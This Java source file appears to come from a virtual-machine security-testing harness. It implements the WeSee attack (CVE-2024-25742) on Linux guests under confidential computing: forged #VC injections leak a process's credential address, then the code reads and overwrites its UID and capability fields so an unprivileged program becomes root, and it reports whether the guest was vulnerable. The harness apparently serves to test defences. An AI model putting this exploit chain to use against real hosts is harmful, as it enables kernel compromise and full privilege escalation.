package dev.vesper.cli.attack;

import dev.vesper.machine.Machine;
import dev.vesper.machine.Stop;
import dev.vesper.machine.Until;
import dev.vesper.machine.VcpuView;
import dev.vesper.machine.observe.Event;
import dev.vesper.machine.observe.Symbols;
import java.util.ArrayList;
import java.util.List;
import java.util.OptionalLong;
import org.jspecify.annotations.Nullable;

/**
 * WeSee against Linux: a program without privileges asks who it is; the kernel sends the host the
 * address of its credentials, and the host reads and overwrites them.
 */
final class RootByWesee {
  private static final String WESEE =
      "WeSee, S&P 2024, CVE-2024-25742, sections on read, write and shell";
  private static final String GETUID = "__x64_sys_getuid";

  /** mov rax, [rax+CRED]; mov esi, [rax+UID] */
  private static final String CREDENTIALS = "488b80........8b70";

  private static final int SECOND = 7;

  /** Instructions of the function before the second of them. */
  static final int BEFORE = 3;

  // Offsets in struct cred, as the code of getuid has UID.
  private static final int UID = 8;
  private static final int SUID = 16;
  private static final int EUID = 24;
  private static final int FSUID = 32;
  private static final int PERMITTED = 52;
  private static final int EFFECTIVE = 60;
  private static final int BOUNDING = 68;

  private static final long ENOUGH = 40_000_000;

  private RootByWesee() {}

  static List<Attack> all() {
    String needs = "Linux, in which a program calls getuid; its places in the handler are known";
    return List.of(
        Attack.lawful(
            "wesee-read",
            "eight bytes of kernel memory are read by three #VCs that are made up",
            WESEE,
            needs,
            "the bytes that the host has are those of the guest's plaintext",
            run -> carryOut(run, RootByWesee::reads)),
        Attack.lawful(
            "wesee-write",
            "eight bytes of kernel memory are written by three #VCs that are made up",
            WESEE,
            needs,
            "the guest's plaintext has the host's bytes",
            run -> carryOut(run, RootByWesee::writes)),
        Attack.lawful(
            "wesee-root",
            "a program's credentials are read and overwritten: it becomes root with all"
                + " capabilities",
            WESEE,
            needs + "; it has no privileges",
            "the kernel has the program's credentials with user 0 and all capabilities",
            run -> carryOut(run, RootByWesee::root)));
  }

  private static KernelAccess.@Nullable Operation reads(long cred, List<Long> done) {
    return done.isEmpty() ? KernelAccess.Operation.read(cred + UID) : null;
  }

  private static KernelAccess.@Nullable Operation writes(long cred, List<Long> done) {
    return done.isEmpty() ? KernelAccess.Operation.write(cred + UID, ForgedVc.LIE) : null;
  }

  private static KernelAccess.@Nullable Operation root(long cred, List<Long> done) {
    return switch (done.size()) {
      case 0 -> KernelAccess.Operation.read(cred + UID);
      case 1 -> KernelAccess.Operation.read(cred + BOUNDING);
      case 2 -> KernelAccess.Operation.write(cred + PERMITTED, done.get(1));
      case 3 -> KernelAccess.Operation.write(cred + EFFECTIVE, done.get(1));
      case 4 -> KernelAccess.Operation.write(cred + SUID, 0);
      case 5 -> KernelAccess.Operation.write(cred + EUID, 0);
      case 6 -> KernelAccess.Operation.write(cred + FSUID, 0);
      // What the program asks for is last: it goes on as root at once.
      case 7 -> KernelAccess.Operation.write(cred + UID, 0);
      default -> null;
    };
  }

  /** Takes a machine to the first call of getuid; {@return whether there is one} */
  static boolean reach(AttackRun run, Machine m) {
    Stop s = m.run(Until.symbol(GETUID).or(Until.instructions(run.target().most())));
    return s instanceof Stop.Breakpoint;
  }

  private static Verdict carryOut(AttackRun run, KernelAccess.Plan plan) {
    if (run.target().kind() != Target.Kind.LINUX) {
      return Verdict.notApplicable("the chain is one of Linux");
    }
    long n = run.instructionsAt(GETUID, RootByWesee::reach);
    if (n < 0) {
      return Verdict.notApplicable("no program calls getuid");
    }
    try (Trial t = run.trialAt(n)) {
      Machine m = t.machine();
      KernelAccess access = new KernelAccess(t, plan);
      // All is mapped long before a program runs.
      m.run(Until.instructions(n - n / 8));
      VcpuView v = m.observer().vcpu(0);
      Symbols names = m.symbols(v);
      if (KernelAccess.findIn(names, v, GETUID, CREDENTIALS, SECOND) == -1
          || !access.begin(n + BEFORE, names, v)) {
        return Verdict.notApplicable("the kernel's code is laid out otherwise");
      }
      Stop s = null;
      for (long next = n; !access.over() && m.instructions() < n + ENOUGH; next += 100_000) {
        s = m.run(Until.instructions(next));
        if (s instanceof Stop.Ended) {
          break;
        }
      }
      return judge(t, access, s, plan);
    }
  }

  private static Verdict judge(
      Trial t, KernelAccess access, @Nullable Stop s, KernelAccess.Plan plan) {
    List<String> proof = new ArrayList<>();
    proof.add("#VC was injected " + access.injections() + " times");
    long cred = access.leaked();
    if (cred != 0) {
      proof.add("the kernel has sent the address " + Event.hex(cred));
    }
    access.results().forEach(r -> proof.add("eight bytes: " + Event.hex(r)));
    if (!access.over()) {
      String ending = s instanceof Stop.Ended e ? t.ending(e.outcome()) : null;
      return new Verdict.Defended(ending != null ? ending : "the chain comes to no end", proof);
    }
    VcpuView v = t.machine().observer().vcpu(0);
    List<Long> done = new ArrayList<>();
    for (long got : access.results()) {
      KernelAccess.Operation o = plan.next(cred, done);
      if (o == null || o.value() != null && !has(v, o.address(), got)) {
        return new Verdict.Defended("the guest's memory has other bytes", proof);
      }
      done.add(got);
    }
    return verdict(t, access, proof, v);
  }

  private static Verdict verdict(Trial t, KernelAccess access, List<String> proof, VcpuView v) {
    long cred = access.leaked();
    if (access.results().size() == 1) {
      boolean wrote = access.results().get(0) == ForgedVc.LIE;
      boolean same = has(v, cred + UID, access.results().get(0));
      return same
          ? new Verdict.Vulnerable(
              wrote ? "writes what the host wants" : "sends the host what it wants", proof)
          : new Verdict.Defended("the guest's memory has other bytes", proof);
    }
    if (access.results().get(0) == 0) {
      return Verdict.notApplicable("the program has privileges already");
    }
    boolean root = has(v, cred + EUID, 0);
    boolean able = has(v, cred + EFFECTIVE, access.results().get(1));
    Machine m = t.machine();
    Stop s = m.run(Until.symbol(GETUID).or(Until.instructions(m.instructions() + ENOUGH)));
    proof.add("then " + s.description());
    return root && able
        ? new Verdict.Vulnerable("gives a program without privileges all of them", proof)
        : new Verdict.Defended("the program does not become root", proof);
  }

  private static boolean has(VcpuView v, long address, long value) {
    OptionalLong is = SilentMoves.number(v, address);
    return is.isPresent() && is.getAsLong() == value;
  }
}
